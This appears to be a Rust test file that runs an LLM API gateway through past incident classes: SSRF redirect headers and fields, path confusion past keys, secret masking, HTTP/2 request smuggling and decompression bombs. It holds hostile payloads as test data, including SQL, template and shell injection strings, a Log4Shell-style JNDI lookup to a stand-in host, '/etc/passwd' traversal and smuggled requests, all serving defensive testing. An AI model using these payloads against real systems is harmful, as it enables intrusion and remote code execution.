//! What was broken into elsewhere, class by class as the page `docs/src/reference/incidents.md` has them, each tried here on a
//! running gateway where no other test does so already.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use http::header::{AUTHORIZATION, HeaderName, HeaderValue};
use http::{Method, Request};
use http_body_util::Full;
use serde_json::{Value, json};
use tokio::io::AsyncWriteExt;

use crate::encodings::together;
use crate::harness::raw::header_in;
use crate::harness::upstream::{COMPLETION, EVENTS, LAST_CHUNK, whole};
use crate::harness::{
    Gateway, MODEL, PATIENCE, Raw, Setup, Upstream, chat_body, entry, with_key, within,
};
use crate::http2::{HEADERS, SETTINGS, frame};

/// A key of a provider, which callers must never learn.
const SECRET: &str = "sk-of-the-upstream-0123456789";

fn with_secret(upstream: &Upstream) -> Setup {
    let key = "key = { env = \"UPSTREAM_KEY\" }";
    let setup = Setup::with(&entry("local", &upstream.base_url(), key));
    setup.variable("UPSTREAM_KEY", SECRET)
}

/// Send a request as bytes and read until the connection ends. The record that it has, if any, is expected in the log.
async fn raw(gateway: &Gateway, bytes: impl AsRef<[u8]>) -> String {
    let mut raw = Raw::connect(gateway).await;
    raw.write(bytes).await;
    let answer = raw.read_to_end().await;
    let record = header_in(&answer, "carnet-record");
    if !record.is_empty() {
        gateway.expect_told(record);
    }
    answer
}

/// The status of an answer as bytes.
fn status(answer: &str) -> u16 {
    let code = answer.split(' ').nth(1);
    code.and_then(|code| code.parse().ok()).unwrap_or(0)
}

#[tokio::test]
async fn incident_no_header_query_or_target_chooses_where_a_request_goes() {
    let mut upstream = Upstream::start().await;
    let trap = Upstream::start().await;
    let gateway = with_secret(&upstream).start().await;
    let (url, address) = (trap.base_url(), trap.address.to_string());
    let mut request = gateway.chat_request(chat_body(MODEL, false));
    for name in [
        "x-portkey-custom-host",
        "x-portkey-provider",
        "x-api-base",
        "api-base",
        "x-base-url",
        "base-url",
        "helicone-target-url",
        "helicone-openai-api-base",
        "x-target-url",
        "x-upstream-url",
        "x-proxy-target",
        "x-original-url",
        "x-rewrite-url",
        "x-envoy-original-dst-host",
        "x-forwarded-uri",
        "destination",
        "referer",
        "origin",
        "via",
    ] {
        let value = HeaderValue::from_str(&url).unwrap();
        let name = HeaderName::from_static(name);
        request.headers_mut().insert(name, value);
    }
    for (name, value) in [
        ("x-forwarded-host", address.clone()),
        ("x-forwarded-server", address.clone()),
        ("x-host", address.clone()),
        ("forwarded", format!("host=\"{address}\";proto=http")),
        (
            "x-portkey-config",
            json!({ "custom_host": url, "provider": "openai" }).to_string(),
        ),
    ] {
        let name = HeaderName::from_static(name);
        request
            .headers_mut()
            .insert(name, HeaderValue::from_str(&value).unwrap());
    }
    let (answer, ()) = tokio::join!(gateway.send(request), async {
        let arrival = upstream.next().await;
        assert_eq!(arrival.header("host"), [upstream.address.to_string()]);
        for (name, value) in &arrival.headers {
            assert!(!value.contains(&address), "{name}: {value}");
        }
        arrival.complete().await;
    });
    assert_eq!(answer.text().await, COMPLETION);

    // Nor does anything in the query reach an address.
    for query in [
        format!("api_base={url}"),
        format!("base_url={url}&custom_llm_provider=openai"),
        format!("target={url}"),
    ] {
        let path = format!("/v1/chat/completions?{query}");
        let request = gateway.request(Method::POST, &path, chat_body(MODEL, false));
        let send = gateway.send(request);
        let (answer, ()) = tokio::join!(send, async {
            let arrival = upstream.next().await;
            assert_eq!(arrival.line, "POST /v1/chat/completions HTTP/1.1");
            arrival.complete().await;
        });
        assert_eq!(answer.status, 200, "{query}");
        answer.bytes().await;
    }

    // We are no proxy, whatever the first line says.
    let body = chat_body(MODEL, false);
    let as_proxy = |line: &str| {
        let head = gateway.raw_head("connection: close\r\n");
        let head = head.replace("POST /v1/chat/completions", line);
        format!("{head}content-length: {}\r\n\r\n{body}", body.len())
    };
    // An address of this machine is a name of ours, and the request goes where every other goes.
    let line = format!("POST http://{address}/v1/chat/completions");
    let (answer, ()) = tokio::join!(raw(&gateway, as_proxy(&line)), upstream.complete());
    assert!(answer.ends_with(COMPLETION), "{answer}");
    for line in [
        "POST http://elsewhere.example/v1/chat/completions".to_owned(),
        format!("POST //{address}/v1/chat/completions"),
        format!("POST /{url}/chat/completions"),
        format!("POST /v1/proxy/{address}/v1/chat/completions"),
        format!("POST @{address}/v1/chat/completions"),
        format!("CONNECT {address}"),
    ] {
        let answer = raw(&gateway, as_proxy(&line)).await;
        assert!((400..500).contains(&status(&answer)), "{line}: {answer}");
    }
    assert!(upstream.is_untouched());
    assert_eq!(trap.connections(), 0);
    gateway.finish().await;
}

#[tokio::test]
async fn incident_no_address_in_a_body_is_asked() {
    let mut upstream = Upstream::start().await;
    let trap = Upstream::start().await;
    let gateway = with_secret(&upstream).start().await;
    let url = trap.base_url();
    let picture = json!({ "type": "image_url", "image_url": { "url": url } });
    let content = json!([{ "type": "text", "text": url }, picture]);
    let source = json!({ "type": "image", "source": { "type": "url", "url": url } });
    let input = json!([{ "type": "input_image", "image_url": url }, { "type": "input_file", "file_url": url }]);
    let said = |content: &Value| json!([{ "role": "user", "content": content }]);
    let mut passed = 0;
    for (path, mut body) in [
        (
            "/v1/chat/completions",
            json!({ "messages": said(&content) }),
        ),
        (
            "/v1/chat/completions",
            json!({ "messages": said(&json!("x")), "api_base": url }),
        ),
        (
            "/v1/chat/completions",
            json!({ "messages": said(&json!("x")), "base_url": url, "custom_host": url }),
        ),
        (
            "/v1/chat/completions",
            json!({ "messages": said(&json!("x")), "extra_body": { "api_base": url } }),
        ),
        (
            "/v1/chat/completions",
            json!({ "messages": said(&json!("x")), "webhook": url, "callback_url": url }),
        ),
        (
            "/v1/messages",
            json!({ "messages": said(&json!([source])), "max_tokens": 9 }),
        ),
        ("/v1/responses", json!({ "input": said(&input) })),
        ("/v1/embeddings", json!({ "input": [url] })),
    ] {
        body["model"] = json!(MODEL);
        let request = gateway.request(Method::POST, path, body.to_string());
        let send = gateway.send(request);
        tokio::pin!(send);
        tokio::select! {
            // A field that leads elsewhere.
            answer = &mut send => assert_eq!(answer.status, 400, "{body}"),
            mut arrival = upstream.next() => {
                passed += usize::from(arrival.json() == body);
                arrival.write(whole("connection: close\r\n", b"{}")).await;
                drop(arrival);
                send.await.bytes().await;
            }
        }
    }
    // Pictures and files are the upstream's to fetch, and texts are texts.
    assert!(passed >= 4, "{passed}");
    assert_eq!(trap.connections(), 0);
    gateway.finish().await;
}

/// Ways in which a path was read as two different ones.
fn confused(path: &str) -> Vec<String> {
    let (first, last) = path.rsplit_once('/').unwrap();
    let mut all: Vec<String> = [
        "/healthz",
        "/readyz",
        "/metrics",
        "/v1/models",
        "/console",
        "/login",
    ]
    .iter()
    .flat_map(|open| {
        [
            format!("{open}/..{path}"),
            format!("{open}/%2e%2e{path}"),
            format!("{open}/..%2f..{path}"),
            format!("{open};/..{path}"),
            format!("{open}?{path}"),
            format!("{open}%00{path}"),
            format!("{open}\\..{path}"),
        ]
    })
    .collect();
    all.extend([
        format!("/{path}"),
        format!("/.{path}"),
        format!("{first}//{last}"),
        format!("{first}/./{last}"),
        format!("{first}%2f{last}"),
        format!("{path}/"),
        format!("{path};x=/healthz"),
        format!("{path}%20"),
        path.to_uppercase(),
        format!("http://localhost{path}"),
        format!("http://localhost/healthz/..{path}"),
        path.to_owned(),
    ]);
    all
}

#[tokio::test]
async fn incident_a_path_is_read_in_one_way_and_none_leads_past_the_key() {
    let mut upstream = Upstream::start().await;
    let gateway = Setup::new(&upstream.base_url()).start().await;
    let body = chat_body(MODEL, false);
    let without = |method: &str, path: &str, host: &str| {
        format!(
            "{method} {path} HTTP/1.1\r\nhost: {host}\r\nconnection: close\r\ncontent-type: application/json\r\n\
             content-length: {}\r\n\r\n{body}",
            body.len()
        )
    };
    for path in confused("/v1/chat/completions") {
        let answer = raw(&gateway, without("POST", &path, "localhost")).await;
        // Behind a question mark stands no path.
        if path.starts_with("/healthz?") || path.starts_with("/readyz?") {
            assert_eq!(status(&answer), 200, "{path}: {answer}");
            continue;
        }
        assert!((400..500).contains(&status(&answer)), "{path}: {answer}");
    }
    // What is open stays so, and by its own path alone.
    assert_eq!(
        status(&raw(&gateway, without("GET", "/healthz", "localhost")).await),
        200
    );
    // A name of the listener with something behind it is none.
    for host in [
        "localhost/healthz",
        "localhost?/healthz",
        "localhost#",
        "localhost/healthz?x=",
        "localhost\\healthz",
        "healthz@localhost",
    ] {
        let answer = raw(&gateway, without("POST", "/v1/chat/completions", host)).await;
        assert!((400..500).contains(&status(&answer)), "{host}: {answer}");
    }
    // The target's own name is the one that counts.
    let named = without("GET", "http://evil.example/healthz", "localhost");
    assert_eq!(status(&raw(&gateway, named).await), 421);
    let behind = without(
        "POST",
        "http://localhost/v1/chat/completions",
        "evil.example",
    );
    assert_eq!(status(&raw(&gateway, behind).await), 421);
    assert!(upstream.is_untouched());

    let ask = async |path: &str, host: &str| {
        let mut stream = tokio::net::TcpStream::connect(gateway.admin).await.unwrap();
        stream
            .write_all(without("GET", path, host).as_bytes())
            .await
            .unwrap();
        let mut answer = Vec::new();
        let read = tokio::io::AsyncReadExt::read_to_end(&mut stream, &mut answer);
        // A reset is an end too.
        let _ = within(PATIENCE, "an answer", read).await;
        String::from_utf8_lossy(&answer).into_owned()
    };
    let host = gateway.admin.to_string();
    for path in confused("/api/keys").iter().chain(&confused("/metrics")) {
        let answer = ask(path, &host).await;
        let open = path.starts_with("/healthz?");
        assert_eq!(status(&answer) == 200, open, "{path}: {answer}");
        assert!(
            !answer.contains(&gateway.key_id) && !answer.contains("carnet_"),
            "{path}: {answer}"
        );
    }
    for host in [
        "evil.example",
        "localhost/healthz",
        "localhost@evil.example",
    ] {
        assert_ne!(status(&ask("/api/keys", host).await), 200, "{host}");
    }
    let served = ask("http://localhost/healthz", &host).await;
    let behind = ask("http://localhost/healthz", "evil.example").await;
    assert_eq!(
        (status(&served), status(&behind)),
        (200, 421),
        "{served} {behind}"
    );
    gateway.finish().await;
}

/// Texts that are something else to whoever runs, pastes or prints them.
const HOSTILE: [&str; 9] = [
    "' OR '1'='1' --",
    "x'); DROP TABLE keys; --",
    "{{1234*5678}} ${1234*5678} <%= 1234*5678 %> #{1234*5678}",
    "$(touch carnet-was-here) `touch carnet-was-here`; touch carnet-was-here",
    "%s%s%s%n%n",
    "${jndi:ldap://elsewhere.example/a}",
    "\"},\"error\":{\"code\":\"forged\"}}",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
];

#[tokio::test]
async fn incident_what_a_refused_request_says_is_only_ever_text() {
    let mut upstream = Upstream::start().await;
    let mut gateway = Setup::new(&upstream.base_url()).start().await;
    let control = "\u{1b}[2J\u{7}\r\nforged: line";
    for text in HOSTILE.iter().copied().chain([control]) {
        // As a key, which nobody has.
        if let Ok(value) = HeaderValue::from_str(&format!("Bearer {text}")) {
            let mut request = gateway.chat_request(chat_body(MODEL, false));
            request.headers_mut().insert(AUTHORIZATION, value);
            gateway
                .send(request)
                .await
                .error(401, "invalid_api_key")
                .await;
        }
        let own = format!("{}{}", gateway.key, text.replace(char::is_whitespace, ""));
        if HeaderValue::from_str(&own).is_ok() {
            let request = with_key(gateway.chat_request(chat_body(MODEL, false)), &own);
            gateway
                .send(request)
                .await
                .error(401, "invalid_api_key")
                .await;
        }
        // As a model, and as a field.
        let body = json!({ "model": text, "messages": [] }).to_string();
        let answer = gateway.chat(body).await;
        let plain = |value: &HeaderValue| !value.as_bytes().contains(&0x1b);
        assert!(answer.headers.values().all(plain) && !answer.headers.contains_key("forged"));
        let error = answer.error(404, "model_not_found").await;
        let told = error["message"].as_str().unwrap();
        assert!(!told.contains("7006652"), "{told}");
        assert!(
            told.contains(&text[..4]) || told.contains("\\u{1b}"),
            "{told}"
        );
        let named = json!({ text: text, "model": MODEL, "messages": text }).to_string();
        let request = gateway.chat_request(named);
        let (answer, ()) = tokio::join!(gateway.send(request), async {
            upstream.complete().await;
        });
        assert_eq!(answer.text().await, COMPLETION);
        // As a path.
        let encoded: String = text.bytes().map(|byte| format!("%{byte:02x}")).collect();
        let request = gateway.request(Method::GET, &format!("/v1/models/{encoded}"), "");
        assert_eq!(gateway.send(request).await.status, 404, "{text}");
    }
    // What was told of it stays in its lines.
    let printed = gateway.stderr();
    assert!(
        !printed.lines().any(|line| line.starts_with("forged")),
        "{printed}"
    );
    let metrics = gateway.metrics().await;
    for line in metrics.lines().filter(|line| !line.starts_with('#')) {
        let value = line.rsplit(' ').next().unwrap();
        assert!(
            value.parse::<f64>().is_ok() && line.starts_with("carnet_"),
            "{line}"
        );
    }
    // The keys are all there, also after they were read again.
    gateway.restart().await;
    let (answer, ()) = tokio::join!(gateway.chat(chat_body(MODEL, false)), upstream.complete());
    assert_eq!(answer.text().await, COMPLETION);
    assert!(!Path::new("carnet-was-here").exists());
    assert!(!gateway.setup.path("carnet-was-here").exists());
    gateway.finish().await;
}

#[tokio::test]
async fn incident_an_upstream_that_repeats_its_key_tells_it_to_no_caller() {
    let mut upstream = Upstream::start().await;
    let gateway = with_secret(&upstream)
        .server("access_log = \"stderr\"")
        .start()
        .await;
    let error = json!({ "error": { "message": format!("Incorrect API key provided: {SECRET}. Twice: {SECRET}"), "type": "x" } });
    let error = error.to_string();
    let hidden = "*".repeat(SECRET.len());
    for line in [
        "400 Bad Request",
        "401 Unauthorized",
        "403 Forbidden",
        "429 Too Many Requests",
        "500 Internal Server Error",
    ] {
        for (path, body) in [
            ("/v1/chat/completions", chat_body(MODEL, false)),
            ("/v1/chat/completions", chat_body(MODEL, true)),
            (
                "/v1/messages",
                json!({ "model": MODEL, "max_tokens": 9, "messages": [] }).to_string(),
            ),
        ] {
            let request = gateway.request(Method::POST, path, body);
            let (answer, ()) = tokio::join!(gateway.send(request), async {
                let mut arrival = upstream.next().await;
                assert_eq!(
                    arrival.header("authorization"),
                    [format!("Bearer {SECRET}")]
                );
                let head = format!(
                    "HTTP/1.1 {line}\r\ncontent-type: application/json\r\nx-asked-with: Bearer {SECRET}\r\n\
                     connection: close\r\ncontent-length: {}\r\n\r\n",
                    error.len()
                );
                // Cut in the middle of the key.
                let (first, last) = error.split_at(error.find("upstream-").unwrap());
                arrival.write(head + first).await;
                tokio::task::yield_now().await;
                arrival.write(last).await;
            });
            assert_eq!(answer.header("x-asked-with"), "", "{line}");
            assert_eq!(answer.status.as_str(), &line[..3]);
            let text = answer.text().await;
            assert!(!text.contains(SECRET), "{line}: {text}");
            assert_eq!(text.matches(&hidden).count(), 2, "{line}: {text}");
        }
    }
    // An error that announces no length.
    let (answer, ()) = tokio::join!(gateway.chat(chat_body(MODEL, false)), async {
        let mut arrival = upstream.next().await;
        arrival
            .write(EVENTS.replace("200 OK", "401 Unauthorized"))
            .await;
        for piece in [&error[..40], &error[40..60], &error[60..]] {
            arrival.chunk(piece).await;
        }
        arrival.write(LAST_CHUNK).await;
    });
    let text = answer.text().await;
    assert_eq!(text, error.replace(SECRET, &hidden));
    // One that repeats nothing passes as it is.
    let plain = json!({ "error": { "message": "no", "type": "x" } }).to_string();
    let (answer, ()) = tokio::join!(gateway.chat(chat_body(MODEL, false)), async {
        let mut arrival = upstream.next().await;
        let head =
            "HTTP/1.1 400 Bad Request\r\ncontent-type: application/json\r\nconnection: close\r\n";
        let head = format!("{head}content-length: {}\r\n\r\n", plain.len());
        arrival.write(head + &plain).await;
    });
    let unchanged = answer.record();
    assert_eq!(answer.text().await, plain);
    let metrics = gateway.metrics().await;
    let printed = gateway.stderr();
    let records = gateway.finish().await;
    let requests = records.iter().filter(|record| record["kind"] == "request");
    for record in requests {
        let edits = record["edits"].as_array();
        let masked = edits.is_some_and(|edits| edits.contains(&json!("mask answer.key")));
        assert_eq!(masked, record["id"] != unchanged.as_str(), "{record:#}");
    }
    let records = format!("{records:?}");
    for told in [metrics, printed, records] {
        assert!(!told.contains(SECRET), "{told}");
    }
}

#[tokio::test]
async fn incident_a_fresh_installation_is_open_to_nobody() {
    let upstream = Upstream::start().await;
    let gateway = Setup::new(&upstream.base_url()).start().await;
    let mode = |path: &str| {
        let found = fs::metadata(gateway.setup.path(path)).unwrap();
        found.permissions().mode() & 0o777
    };
    assert_eq!(mode("state"), 0o700);
    for file in ["admin.token", "metrics.token", "audit.key", "carnet.db"] {
        assert_eq!(mode(&format!("state/{file}")), 0o600, "{file}");
    }
    let (status, document) = gateway.admin(Method::GET, "/api/openapi.json").await;
    assert_eq!(status, 200);
    let mut tried = 0;
    for (path, operations) in document["paths"].as_object().unwrap() {
        if path == "/healthz" {
            continue;
        }
        let path = path.replace("{id}", "key_1");
        for method in operations.as_object().unwrap().keys() {
            let method: Method = method.to_uppercase().parse().unwrap();
            // Nobody's word, that of a caller, and what others ship with.
            for token in ["", "admin", "sk-1234", "changeme", &gateway.key] {
                let (status, told) = gateway.admin_as(token, method.clone(), &path, "{}").await;
                assert_eq!(status, 401, "{method} {path}: {told}");
            }
            // Callers' listener has none of it, whoever asks.
            let answer = gateway
                .send(gateway.request(method.clone(), &path, "{}"))
                .await;
            assert_eq!(answer.status, 404, "{method} {path}");
            answer.error(404, "path_not_served").await;
            tried += 1;
        }
    }
    assert!(tried > 10, "{tried}");
    gateway.finish().await;
}

/// A field of a header list, as a literal that is not indexed (RFC 7541, section 6.2.2).
fn field(name: &str, value: &str) -> Vec<u8> {
    let text = |text: &str| {
        let length = u8::try_from(text.len()).ok().filter(|length| *length < 127);
        [&[length.unwrap()], text.as_bytes()].concat()
    };
    [vec![0], text(name), text(value)].concat()
}

const DATA: u8 = 0;
const PING: u8 = 6;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

#[tokio::test]
async fn incident_requests_over_http2_are_not_cut_apart_by_what_they_become() {
    let mut upstream = Upstream::start().await;
    let gateway = Setup::new(&upstream.base_url()).start().await;
    let body = chat_body(MODEL, false);
    let key = format!("Bearer {}", gateway.key);
    let good = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/v1/chat/completions"),
        (":authority", "localhost"),
        ("authorization", &key),
    ];
    let second = "0\r\n\r\nPOST /smuggled HTTP/1.1\r\nhost: x\r\n\r\n";
    let length = body.len().to_string();
    let longer = (body.len() + 40).to_string();
    let replaced = |name: &'static str, value: &'static str| {
        let all = good.iter().map(move |field| {
            if field.0 == name {
                (name, value)
            } else {
                *field
            }
        });
        all.collect::<Vec<_>>()
    };
    let with = |more: &[(&'static str, &'static str)]| [&good[..], more].concat();
    let cases = [
        ("as it should be", with(&[]), body.as_str()),
        ("chunked", with(&[("transfer-encoding", "chunked")]), second),
        (
            "a connection's own fields",
            with(&[("connection", "keep-alive, x")]),
            &body,
        ),
        ("another protocol", with(&[("upgrade", "h2c")]), &body),
        (
            "too short a length",
            with(&[("content-length", "5")]),
            &body,
        ),
        (
            "too long a length",
            [&good[..], &[("content-length", &longer)]].concat(),
            &body,
        ),
        (
            "two lengths",
            [
                &good[..],
                &[("content-length", &length), ("content-length", "5")],
            ]
            .concat(),
            &body,
        ),
        (
            "a line in a value",
            with(&[("x-a", "1\r\nx-smuggled: 1")]),
            &body,
        ),
        (
            "a line in a name",
            with(&[("x-a: 1\r\nx-smuggled", "1")]),
            &body,
        ),
        (
            "a name in capitals",
            with(&[("Content-Length", "5")]),
            &body,
        ),
        ("a colon in a name", with(&[("x:y", "1")]), &body),
        ("a second path", with(&[(":path", "/v1/models")]), &body),
        (
            "a request in the path",
            replaced(
                ":path",
                "/v1/models HTTP/1.1\r\nhost: x\r\n\r\nGET /smuggled",
            ),
            &body,
        ),
        (
            "a request in the method",
            replaced(":method", "POST /smuggled HTTP/1.1\r\nx: y\r\n\r\nPOST"),
            &body,
        ),
        (
            "a request in the name",
            replaced(":authority", "localhost\r\n\r\nGET /smuggled"),
            &body,
        ),
        ("another host", with(&[("host", "evil.example")]), &body),
    ];
    for (what, fields, body) in cases {
        let head: Vec<u8> = fields
            .iter()
            .flat_map(|(name, value)| field(name, value))
            .collect();
        let bytes = [
            b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(),
            frame(SETTINGS, 0, 0, &[]),
            frame(HEADERS, END_HEADERS, 1, &head),
            frame(DATA, END_STREAM, 1, body.as_bytes()),
            // What was sent before it has been read when it comes back.
            frame(PING, 0, 0, &[7; 8]),
        ]
        .concat();
        let mut raw = Raw::connect(&gateway).await;
        raw.write(&bytes).await;
        if what == "as it should be" {
            gateway.expect_untold(1);
            upstream.complete().await;
            raw.read_until(COMPLETION.as_bytes()).await;
            continue;
        }
        raw.read_until(&frame(PING, 1, 0, &[7; 8])).await;
        assert!(upstream.is_untouched(), "{what}");
    }
    // None of them left anything behind for the next one.
    let (answer, ()) = tokio::join!(gateway.chat(chat_body(MODEL, false)), upstream.complete());
    assert_eq!(answer.text().await, COMPLETION);
    assert!(upstream.is_untouched());
    // Those that could be read as a request are refused ones, and have their records.
    let records = gateway.records().await;
    let requests = records.iter().filter(|record| record["kind"] == "request");
    let (good, refused): (Vec<_>, Vec<_>) =
        requests.partition(|record| record["outcome"] == "completed");
    assert_eq!(good.len(), 2, "{records:#?}");
    assert!(
        refused
            .iter()
            .all(|record| record["outcome"] == "refused" && record["attempts"].is_null())
    );
    gateway.expect_untold(refused.len());
    gateway.finish().await;
}

#[tokio::test]
async fn incident_nothing_that_a_caller_compressed_is_unpacked() {
    let mut upstream = Upstream::start().await;
    let gateway = Setup::new(&upstream.base_url()).start().await;
    // Ten million blanks behind a request.
    let bomb = [chat_body(MODEL, false).into_bytes(), vec![b' '; 10_000_000]].concat();
    let bomb = together("gzip", &bomb).await;
    assert!(bomb.len() < 50_000, "{}", bomb.len());
    for coding in ["gzip", "deflate", "br", "zstd", "identity, gzip"] {
        let request = Request::builder()
            .method(Method::POST)
            .uri("/v1/chat/completions")
            .header("host", "localhost")
            .header("authorization", format!("Bearer {}", gateway.key))
            .header("content-type", "application/json")
            .header("content-encoding", coding)
            .body(Full::new(bomb.clone().into()))
            .unwrap();
        gateway.send(request).await.error(400, "invalid_json").await;
    }
    // Nor is compression agreed on for messages.
    let head = gateway.upgrade("/v1/responses", &gateway.key);
    let offer = "sec-websocket-extensions: permessage-deflate; client_max_window_bits\r\n\r\n";
    let (answer, _) = gateway
        .opening(&(head.trim_end().to_owned() + "\r\n" + offer))
        .await;
    assert_eq!(status(&answer), 101, "{answer}");
    assert_eq!(header_in(&answer, "sec-websocket-extensions"), "");
    assert!(upstream.is_untouched());
    gateway.finish().await;
}
